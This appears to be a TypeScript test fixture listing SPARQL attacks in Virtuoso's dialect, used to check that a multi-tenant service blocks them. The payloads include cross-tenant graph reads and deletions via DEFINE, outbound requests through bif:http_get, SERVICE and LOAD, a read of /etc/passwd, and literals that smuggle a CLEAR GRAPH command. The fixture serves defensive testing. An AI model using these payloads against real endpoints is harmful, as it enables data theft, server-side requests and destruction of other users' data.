// Attacks in the dialect of an external server (Virtuoso). `g` is a graph of another tenant.

interface Aim {
  g: string
  own: string
  /** A URL that counts its visitors. */
  canary: string
}
type Attack = (aim: Aim) => string

export const DIALECT_QUERIES: Readonly<Record<string, Attack>> = {
  'DEFINE of the default graph': ({ g }) => `DEFINE input:default-graph-uri <${g}> SELECT * { ?s ?p ?o }`,
  'DEFINE of a named graph': ({ g }) => `define input:named-graph-uri <${g}> select * { graph ?x { ?s ?p ?o } }`,
  'DEFINE of a storage': () => 'DEFINE input:storage "" SELECT * { ?s ?p ?o }',
  'DEFINE of a fetch': ({ canary }) => `DEFINE get:soft "replacing" SELECT * FROM <${canary}> { ?s ?p ?o }`,
  'DEFINE after a comment': ({ g }) => `#\rDEFINE input:default-graph-uri <${g}>
  SELECT * { ?s ?p ?o }`,
  'DEFINE in escapes': ({ g }) => `\\u0044EFINE input:default-graph-uri <${g}> SELECT * { ?s ?p ?o }`,
  'DEFINE in a string that may end early': ({ g }) =>
    `SELECT * { BIND("\\"\\u0020} DEFINE input:default-graph-uri <${g}> {" AS ?x) ?s ?p ?o }`,
  'the OPTION clause of FROM': ({ canary }) => `SELECT * FROM <${canary}> OPTION (get:soft "soft") { ?s ?p ?o }`,
  'a function without its prefix': () => 'SELECT (bif:upper("x") AS ?o) {}',
  'a function with a prefix': ({ canary }) => `PREFIX bif: <bif:> SELECT (bif:http_get("${canary}") AS ?o) {}`,
  'a function by its IRI': ({ canary }) => `SELECT (<bif:http_get>("${canary}") AS ?o) {}`,
  'a function in a filter': ({ canary }) => `SELECT * { ?s ?p ?o FILTER(<bif:http_get>("${canary}") != "") }`,
  'a function in ORDER BY': ({ canary }) => `SELECT * { ?s ?p ?o } ORDER BY <bif:http_get>("${canary}")`,
  'a function in GROUP BY': ({ canary }) =>
    `SELECT (1 AS ?o) { ?s ?p ?x } GROUP BY (<bif:http_get>("${canary}") AS ?y)`,
  'a function in HAVING': () => 'SELECT ?s { ?s ?p ?o } GROUP BY ?s HAVING (<sql:rnd>(10) > 0)',
  'a function in upper case': ({ canary }) => `SELECT (<BIF:http_get>("${canary}") AS ?o) {}`,
  'a file': () => 'SELECT (<bif:file_to_string>("/etc/passwd") AS ?o) {}',
  'a procedure': ({ g }) => `SELECT (<sql:SPARQL_EVAL>("select * from <${g}> { ?s ?p ?o }", "", 10) AS ?o) {}`,
  'a full-text predicate': () => `SELECT * { ?s ?p ?o . ?o <bif:contains> "'victim'" }`,
  'a full-text predicate from a variable': () => `SELECT * { BIND(<bif:contains> AS ?q) ?s ?p ?o . ?o ?q "'victim'" }`,
  'the OPTION clause of a triple': () =>
    'SELECT * { ?s <urn:is> ?o OPTION (transitive, t_distinct, t_in(?s), t_out(?o)) }',
  'a back-quoted expression': () => 'SELECT * { ?s ?p `bif:concat("a", "b")` }',
  'a parameter': () => 'SELECT * { GRAPH ?:x { ?s ?p ?o } }',
  'a system graph': () => 'SELECT * { GRAPH <http://www.openlinksw.com/schemas/virtrdf#> { ?s ?p ?o } }',
  'the bookkeeping graph': () => 'SELECT * { GRAPH <urn:veritrace:projection> { ?s ?p ?o } }',
  'FROM the bookkeeping graph': () => 'SELECT * FROM <urn:veritrace:projection> { ?s ?p ?o }',
  'a blank node id of the server': () => 'SELECT * { <nodeID://b10000> ?p ?o }',
  'a closed path in a graph variable': () => 'SELECT * { GRAPH ?x { <urn:known> <urn:is>+ ?o } }',
  'a closed path over a bound graph': ({ own }) =>
    `SELECT * { VALUES ?x { <${own}> } GRAPH ?x { <urn:known> <urn:is>+ ?o } }`,
  'a closed path between two names': () => 'SELECT * { <urn:known> <urn:is>* ?o . ?o <urn:says> ?word }',
  'a closed path in EXISTS': () => 'SELECT * { ?s ?p ?o FILTER EXISTS { ?s (<urn:is>|<urn:says>)+ ?x } }',
  'MINUS over a graph variable': () =>
    'SELECT * { GRAPH ?x { <urn:known> <urn:is>/<urn:is> ?y } OPTIONAL { { SELECT * { ?s ?p ?o } } } MINUS { GRAPH ?x { ?a <urn:no> ?b } } }',
  'NOT EXISTS over a graph variable': () =>
    'SELECT * { GRAPH ?x { ?s !<urn:no> ?o . OPTIONAL { ?o ?q ?w } } FILTER NOT EXISTS { GRAPH ?x { ?s <urn:no> ?o } } }',
  'DESCRIBE of what others describe': () => 'DESCRIBE <urn:known> <urn:there> ?x { GRAPH ?x { ?s ?p ?o } }',
  SERVICE: ({ canary }) => `SELECT * { SERVICE <${canary}> { ?s ?p ?o } }`,
  'SERVICE SILENT': ({ canary }) => `SELECT * { SERVICE SILENT <${canary}> { ?s ?p ?o } }`,
  'SERVICE from a variable': ({ canary }) => `SELECT * { VALUES ?x { <${canary}> } SERVICE ?x { ?s ?p ?o } }`,
  'SERVICE deep inside': ({ canary }) =>
    `SELECT * { ?s ?p ?o FILTER NOT EXISTS { { SELECT * { OPTIONAL { SERVICE SILENT <${canary}> { ?a ?b ?c } } } } } }`,
  'FROM an address': ({ canary }) => `SELECT * FROM <${canary}> { ?s ?p ?o }`,
  'an update as a query': ({ g }) => `INSERT INTO GRAPH <${g}> { <a:a> <a:b> 1 }`,
  'another language': ({ g }) => `SPARQL CLEAR GRAPH <${g}>`,
}

export const DIALECT_UPDATES: Readonly<Record<string, Attack>> = {
  'INSERT INTO': ({ g }) => `INSERT INTO GRAPH <${g}> { <a:a> <a:b> 1 }`,
  'DELETE FROM': ({ g }) => `DELETE FROM GRAPH <${g}> { ?s ?p ?o } WHERE { ?s ?p ?o }`,
  'DEFINE before an update': ({ g }) => `DEFINE input:default-graph-uri <${g}> DELETE { ?s ?p ?o } WHERE { ?s ?p ?o }`,
  'a literal that ends the text': ({ g }) => `INSERT DATA { <a:a> <a:b> "\\" } } ; CLEAR GRAPH <${g}> ; #" }`,
  'a literal with line ends': ({ g }) => `INSERT DATA { <a:a> <a:b> """x" . } }\n; CLEAR GRAPH <${g}> ;\n# """ }`,
  'a function in WHERE': ({ canary }) => `INSERT { <a:a> <a:b> ?o } WHERE { BIND(<bif:http_get>("${canary}") AS ?o) }`,
  'SERVICE in WHERE': ({ canary }) => `INSERT { ?s ?p ?o } WHERE { SERVICE SILENT <${canary}> { ?s ?p ?o } }`,
  LOAD: ({ canary }) => `LOAD <${canary}>`,
  'LOAD SILENT': ({ canary, own }) => `LOAD SILENT <${canary}> INTO GRAPH <${own}>`,
  'the bookkeeping graph': () => 'CLEAR GRAPH <urn:veritrace:projection>',
  'a graph variable': ({ g }) => `INSERT { GRAPH ?x { <a:a> <a:b> 1 } } WHERE { BIND(IRI("${g}") AS ?x) }`,
}
